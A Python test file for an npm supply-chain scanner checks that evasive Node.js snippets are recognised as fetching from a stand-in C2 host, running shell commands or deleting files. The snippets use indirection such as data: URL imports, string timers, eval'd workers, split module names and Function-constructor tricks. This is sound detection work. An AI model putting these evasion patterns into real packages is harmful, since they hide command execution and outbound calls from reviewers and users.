"""Calls of Node that need more than a table."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.reading.effects import Effect

Effects = Callable[..., list[Effect]]


@pytest.mark.parametrize(
    ("code", "does", "text"),
    [
        ("import('data:text/javascript,fetch(`http://c2.invalid`)')", "receives", "http://c2.invalid"),
        ("setTimeout('fetch(`http://c2.invalid`)', 5)", "receives", "http://c2.invalid"),
        ("Reflect.apply(require('child_process').exec, null, ['true'])", "runs-command", "true"),
        ("const r = require('util').promisify(require('fs').unlink); r('/x')", "deletes", "/x"),
        ("import('child_' + 'process').then(({ exec }) => exec('true'))", "runs-command", "true"),
        (
            "(() => {}).constructor('return process')().getBuiltinModule('child_process').exec('true')",
            "runs-command",
            "true",
        ),
        (
            "new (require('worker_threads').Worker)(`fetch('http://c2.invalid')`, { eval: true })",
            "receives",
            "http://c2.invalid",
        ),
    ],
)
def test_what_is_reached_through_them_is_read(code: str, does: str, text: str, effects: Effects) -> None:
    """Code in addresses, timers and workers; functions that are passed through others."""
    assert (does, text) in {(one.does, one.text) for one in effects(code, "npm")}


def test_web_assembly_runs_what_nobody_reads(effects: Effects) -> None:
    """A function that is given to it and runs its argument."""
    code = "WebAssembly.instantiate(b, { env: { run: (c) => eval(c), log: (c) => console.log(c) } })"

    assert [one.tags for one in effects(code, "npm") if one.does == "runs-code"] == [frozenset({"decoded"})]
